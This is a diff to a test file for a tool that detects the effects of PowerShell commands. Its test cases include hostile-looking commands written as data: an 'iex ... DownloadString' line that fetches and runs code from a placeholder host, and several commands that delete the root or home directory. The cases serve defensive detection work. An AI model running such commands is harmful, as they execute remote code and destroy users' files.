@@ -60,8 +60,15 @@ describe('in PowerShell', () => {
     ['a downloaded string that runs', "iex (New-Object Net.WebClient).DownloadString('https://a.example/x')", 'net.request a.example'],
     ['another process', "Start-Process -FilePath rm -ArgumentList '/'", 'file.delete /'],
     ['a folder', 'Set-Location /; rm x', 'file.delete /x'],
+    ['what comes through a pipe', "'/x' | Remove-Item", 'file.delete /x'],
+
+    ['a method of a variable', '[IO.File]::Delete($HOME)', 'file.delete /home/ada'],
   ])('%s is followed', (_, text, effect) => {
     expect(effectsOf(text, { as: 'powershell' })).toContain(effect);
+  });
+
+  it('what a pipe brings is not taken where operands are given', () => {
+    expect(effectsOf("'/a' | Remove-Item /b", { as: 'powershell' })).toEqual(['file.delete /b']);
   });
 
   it.each([["Write-Output 'Remove-Item /'"], ['echo "rm /" # rm /'], ["$x = 'rm /'"], ["@'\nrm /\n'@"]])('%s stays text', (text) => {
